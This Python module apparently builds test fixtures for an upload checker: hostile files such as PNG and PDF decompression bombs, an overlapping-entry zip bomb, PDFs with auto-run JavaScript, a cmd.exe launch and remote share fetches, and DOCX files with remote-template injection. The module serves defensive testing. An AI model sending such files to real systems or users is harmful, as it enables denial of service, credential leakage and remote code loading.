"""Builders of files as people and attackers send them. Each returns bytes."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def picture(kind="JPEG", size=(64, 48), **options):
    content = io.BytesIO()
    Image.new("RGB", size, (180, 60, 60)).save(content, kind, **options)
    return content.getvalue()


def photo_with_place():
    """A JPEG with a position and a turn in its EXIF, as a phone writes it."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Phone maker"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (51.0, 28.0, 54.0)
    return picture(exif=exif.tobytes())


def pixel_bomb(side=20_000):
    """A small PNG that claims `side` × `side` pixels."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 1_000_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def pdf(change=None, **options):
    """One blank page; `change(document)` makes it worse."""
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    content = io.BytesIO()
    document.save(content, **options)
    return content.getvalue()


def pdf_with_script():
    def change(document):
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_launch():
    def change(document):
        action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([link]))

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_second_action():
    """Opens at a page, as many do, and then fetches an address without being asked."""

    def change(document):
        then = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://x.example/opened")
        place = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=place, Next=then)

    return pdf(change)


def pdf_with_link_to_a_file():
    """A click, and in some readers the opening alone, fetches a document from a share."""

    def change(document):
        action = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="//host.example/share/a.pdf", D=pikepdf.Array([0]))
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([link]))

    return pdf(change)


def pdf_with_content_elsewhere():
    def change(document):
        document.pages[0].Contents = pikepdf.Stream(document, b"", F="//host.example/share/a.bin")

    return pdf(change)


def pdf_with_file():
    return pdf(lambda document: document.attachments.__setitem__("a.txt", b"inside"))


def pdf_with_forms():
    return pdf(lambda document: document.Root.__setattr__("AcroForm", pikepdf.Dictionary(XFA="<xdp/>", Fields=[])))


def pdf_with_password():
    return pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


def pdf_bomb(megabytes=2000):
    """A PDF whose one object stream unpacks to far more than its bytes."""
    engine = zlib.compressobj(9)
    packed = engine.compress(b"1 0 ") + engine.flush(zlib.Z_FULL_FLUSH)
    # Independent of what stands before it, so that it can be repeated without being packed again.
    block = engine.compress(b" " * 1024 * 1024) + engine.flush(zlib.Z_FULL_FLUSH)
    packed += block * megabytes + engine.flush()
    out = b"%PDF-1.5\n"
    stream = (
        b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )
    table_place = len(out) + len(stream)
    rows = [(0, 0, 255), (2, 2, 0), (1, len(out), 0), (1, table_place, 0)]
    table = b"".join(struct.pack(">BIB", kind, place, extra) for kind, place, extra in rows)
    out += stream + b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_place


def docx(extra=None, main=MAIN, relationships="", doctype=""):
    """A small text document; `extra` adds parts by name."""
    parts = {
        "[Content_Types].xml": f'<?xml version="1.0"?>{doctype}<Types xmlns="{PACKAGE}/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
        f"{relationships}</Relationships>",
        "word/document.xml": "<w:document xmlns:w='w'><w:body/></w:document>",
    }
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (parts | (extra or {})).items():
            archive.writestr(name, data)
    return content.getvalue()


def remote_template():
    return docx(relationships=outside("attachedTemplate", "http://x.example/t.dotm"))


def remote_template_in_capitals():
    content = outside("attachedTemplate", "http://x.example/t.dotm")
    part = f'<Relationships xmlns="{PACKAGE}/relationships">{content}</Relationships>'
    return docx({"word/_rels/settings.xml.RELS": part})


def with_link():
    return docx(relationships=outside("hyperlink", "https://nhs.example/"))


def outside(kind, target):
    return f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def with_field(*runs, part="word/document.xml"):
    """A document in which a field's instruction is cut into these runs; an empty one starts the next field."""
    texts = "".join(f"<w:instrText>{run}</w:instrText>" if run else "<w:fldChar/>" for run in runs)
    return docx({part: f"<w:document xmlns:w='w'><w:p><w:r>{texts}</w:r></w:p></w:document>"})


def with_simple_field(instruction):
    field = f"<w:fldSimple w:instr='{instruction}'/>"
    return docx({"word/footer1.xml": f"<w:ftr xmlns:w='w'>{field}</w:ftr>"})


def overlapping_zip(entries=1000):
    """A DOCX whose directory names the same bytes a thousand times, which Python 3.11.7's zipfile unpacks."""
    base = docx()
    end = base.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<HII", base, end + 10)
    packed = zlib.compress(b"0" * 10_000_000, 9)[2:-4]
    name = b"word/media/a.bin"
    checksum = zlib.crc32(b"0" * 10_000_000)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, checksum, len(packed), 10_000_000, len(name), 0)
    body = base[:start] + local + name + packed
    rows = b"".join(central(name, checksum, len(packed), 10_000_000, start) for _ in range(entries))
    directory = base[start:end] + rows
    total = count + entries
    return body + directory + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, total, total, len(directory), len(body), 0)


def central(name, checksum, packed, unpacked, place):
    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02", 20, 20, 0, 8, 0, 0, checksum, packed, unpacked, len(name), 0, 0, 0, 0, 0, place,
        )
        + name
    )  # fmt: skip
